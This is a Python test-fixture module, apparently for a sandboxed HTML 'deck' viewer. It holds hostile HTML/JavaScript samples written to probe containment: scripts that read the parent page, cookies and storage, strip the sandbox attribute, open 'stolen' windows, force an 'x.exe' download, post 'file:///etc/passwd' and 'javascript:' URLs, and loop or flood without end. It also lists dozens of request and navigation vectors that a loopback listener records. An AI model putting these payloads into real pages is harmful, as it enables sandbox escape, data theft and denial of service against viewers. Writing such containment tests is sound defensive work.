"""Decks that were written to do harm, as HTML, and a server that notes what they ask for.

What shows decks is tested with them in a browser. Each says in its text when it is done.

Examples:
    >>> deck = Deck("attack").append(REACHES)
    >>> frame.locator("#out").inner_text()  # doctest: +SKIP
    'reached: '
"""

from __future__ import annotations

import socket
import threading

__all__ = [
    "FLOODS",
    "GREEDY",
    "HOSTILE_NAVIGATIONS",
    "HOSTILE_REQUESTS",
    "LIES",
    "LOOPS",
    "REACHES",
    "WHOLE_DOCUMENT",
    "Listener",
]

WHOLE_DOCUMENT = "<!doctype html><html><head><title>Whole</title></head><body>{}</body></html>"
"""A document to put a hostile body into."""

REACHES = """<p id=out></p><script>
const attempts = {
  parent: () => parent.document.title,
  parentStorage: () => parent.localStorage.length,
  ownStorage: () => localStorage.getItem("obs-theme"),
  cookie: () => document.cookie,
  sibling: () => parent.frames[0].document.title,
  siblingNavigation: () => { parent.frames[0].location = "about:blank" },
  frameElement: () => frameElement.ownerDocument.title,
  origin: () => origin !== "null",
  sandbox: () => { parent.document.querySelector("iframe").removeAttribute("sandbox"); return true },
};
const got = Object.keys(attempts).filter(name => { try { return attempts[name]() } catch { return false } });
for (const go of [() => { top.location = "about:blank" }, () => { parent.location.replace("about:blank") }]) {
  try { go() } catch {}
}
alert(1);
fetch("API").then(() => got.push("fetch"), () => 0).finally(() => { out.innerText = "reached: " + got.join() });
</script><img src=x onerror="try { top.hit = 1 } catch {}">
<a id=up target=_top href="about:blank">up</a><script>up.click()</script>
<form target=_top action="about:blank"></form><script>document.forms[0].submit()</script>"""
"""Tries to reach the page around it, its neighbours, and the viewer's storage.

``API`` stands for an address to fetch.
"""

GREEDY = """<input id=field autofocus><p id=out></p><script>
field.focus();
const opened = [window.open("https://example.org/?stolen")];
const away = document.body.appendChild(document.createElement("iframe"));
try { opened.push(away.contentWindow.open("https://example.org/?stolen")) } catch {}
window.print();
const asked = [
  { obs: "print" }, { obs: "scroll", top: 3000 }, { obs: "open", url: "https://example.org/?stolen" },
  { obs: "save", name: "x.exe", content: new Blob(["x"]) }, { document: "<p>other</p>" },
];
for (const message of asked) parent.postMessage(message, "*");
for (const scheme of ["data:text/plain,x", URL.createObjectURL(new Blob(["x"]))]) {
  const link = Object.assign(document.createElement("a"), { href: scheme, download: "x.txt" });
  document.body.append(link);
  link.click();
}
history.back();
setTimeout(() => { out.innerText = opened.some(Boolean) ? "opened a window" : "opened nothing" }, 300);
</script><div style="height:5000px"></div>"""
"""Takes the focus, which is no consent, and then asks for a window, a print, a scroll, a download and the way back."""

LIES = """<p>lies</p><script>
for (const height of [-5, NaN, Infinity, "9px", {}, null, 1e12]) parent.postMessage({ obs: "height", height }, "*");
for (const other of [null, 1, "x", [], { obs: {} }, { obs: "waiting" }]) parent.postMessage(other, "*");
for (const url of ["javascript:top.hit=1", "file:///etc/passwd", "https://[", {}]) {
  parent.postMessage({ obs: "open", url }, "*");
}
for (const content of [null, "x", {}]) parent.postMessage({ obs: "save", name: {}, content }, "*");
</script>"""
"""Says what is not so about its height, and what no page expects."""

LOOPS = "<p>before</p><script>setTimeout(() => { for (;;); }, 300)</script>"
"""Computes without end."""

FLOODS = "<script>setInterval(() => { for (let n = 0; n < 9000; n++) parent.postMessage(n, '*') }, 1)</script>"
"""Sends messages without end."""

HOSTILE_REQUESTS = {
    "img": "<img src={0}/img>",
    "fetch": "<script>fetch('{0}/fetch').catch(() => 0)</script>",
    "beacon": "<script>navigator.sendBeacon('{0}/beacon')</script>",
    "socket": "<script>new WebSocket('{0}/socket'.replace('http', 'ws'))</script>",
    "events": "<script>new EventSource('{0}/events')</script>",
    "script": "<script src={0}/script></script>",
    "module": "<script type=module>import '{0}/module'</script>",
    "sheet": "<link rel=stylesheet href={0}/sheet>",
    "import": "<style>@import '{0}/import'</style>",
    "background": "<p style='background:url({0}/background)'>x</p>",
    "font": "<style>@font-face {{ font-family: f; src: url({0}/font) }}</style><p style='font-family: f'>x</p>",
    "frame": "<iframe src={0}/frame></iframe>",
    "object": "<object data={0}/object></object>",
    "video": "<video src={0}/video></video>",
    "poster": "<video poster={0}/poster></video>",
    "preload": "<link rel=preload as=image href={0}/preload>",
    "prefetch": "<link rel=prefetch href={0}/prefetch>",
    "svg": "<svg><image href={0}/svg /></svg>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob(['fetch(`{0}/worker`)'])))</script>",
    "srcdoc": "<iframe srcdoc='<img src={0}/srcdoc>'></iframe>",
    "data": "<iframe src='data:text/html,<img src={0}/data>'></iframe>",
    "srcset": "<img srcset='{0}/srcset 1x'>",
    "imageset": "<p style='background:image-set(url({0}/imageset) 1x)'>x</p>",
    "mask": "<p style='mask:url({0}/mask)'>x</p>",
    "input": "<input type=image src={0}/input>",
    "embed": "<embed src={0}/embed>",
    "fontface": "<script>new FontFace('g', 'url({0}/fontface)').load().catch(() => 0)</script>",
    "xhr": "<script>{{ const x = new XMLHttpRequest(); x.open('GET', '{0}/xhr'); x.send() }}</script>",
    "keepalive": "<script>fetch('{0}/keepalive', {{ keepalive: true, mode: 'no-cors' }}).catch(() => 0)</script>",
    "dynamic": "<script>import('{0}/dynamic').catch(() => 0)</script>",
    "modulepreload": "<link rel=modulepreload href={0}/modulepreload>",
    "ping": "<a id=pings ping={0}/ping href=#x>x</a><script>pings.click()</script>",
    "dataworker": "<script>new Worker('data:text/javascript,fetch(`{0}/dataworker`)')</script>",
    "blobframe": "<script>document.body.append(Object.assign(document.createElement('iframe'), {{ src:"
    " URL.createObjectURL(new Blob(['<img src={0}/blobframe>'], {{ type: 'text/html' }})) }}))</script>",
    "blobsheet": "<script>document.head.append(Object.assign(document.createElement('link'), {{ rel: 'stylesheet',"
    " href: URL.createObjectURL(new Blob(['@import url({0}/blobsheet)'], {{ type: 'text/css' }})) }}))</script>",
}
"""Ways to ask a server for something, `{0}`, as HTML by the path that each asks for."""

HOSTILE_NAVIGATIONS = {
    "location": "<script>location = '{0}/location'</script>",
    "refresh": "<meta http-equiv=refresh content='0; url={0}/refresh'>",
    "click": "<a id=link href={0}/click>x</a><script>link.click()</script>",
    "post": "<form method=post action={0}/post></form><script>document.forms[0].submit()</script>",
    "download": "<a id=link download href={0}/download>x</a><script>link.click()</script>",
}
"""Ways to lead a frame to a server, each of which ends the document that it is in."""


class Listener:
    """A server on loopback that notes whatever is asked of it.

    Attributes:
        requests: The paths that it was asked for, without slashes around them.
    """

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.requests: list[str] = []
        threading.Thread(target=self._accept, daemon=True).start()

    @property
    def address(self) -> str:
        """Where it listens: ``"http://127.0.0.1:PORT"``."""
        return f"http://127.0.0.1:{self._socket.getsockname()[1]}"

    def _accept(self) -> None:
        while True:
            try:
                connection = self._socket.accept()[0]
            except OSError:
                return
            threading.Thread(target=self._answer, args=(connection,), daemon=True).start()

    def _answer(self, connection: socket.socket) -> None:
        with connection:
            connection.settimeout(5)
            try:
                request = connection.recv(1000).decode("latin-1")
                connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nAccess-Control-Allow-Origin: *\r\n\r\n")
            except OSError:
                return
            if request:
                self.requests.append(request.split()[1].strip("/"))

    def close(self) -> None:
        """Stop listening."""
        self._socket.close()
